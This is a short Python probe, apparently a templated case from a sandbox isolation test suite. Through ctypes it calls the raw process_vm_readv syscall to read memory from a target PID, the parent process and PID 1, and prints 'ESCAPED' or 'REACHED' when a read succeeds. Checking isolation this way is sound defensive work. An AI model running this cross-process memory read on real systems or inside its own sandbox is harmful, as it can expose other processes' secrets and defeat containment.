# attack: process_vm_readv takes memory of another process without attaching to it
# family: ctypes
import ctypes
import os
libc = ctypes.CDLL(None, use_errno=True)
class Part(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
here = ctypes.create_string_buffer(16)
for pid in [$PID, os.getppid(), 1]:
    try:
        with open(f"/proc/{pid}/maps") as maps:
            start = int(maps.readline().split("-")[0], 16)
    except (OSError, ValueError):
        start = 0x400000
    if pid != os.getpid() and libc.syscall(310, pid, ctypes.byref(Part(ctypes.addressof(here), 16)), 1, ctypes.byref(Part(start, 16)), 1, 0) > 0:
        print("ESCAPED" if pid == $PID else "REACHED", "memory of", pid, here.raw)
    else:
        print(pid, os.strerror(ctypes.get_errno()))
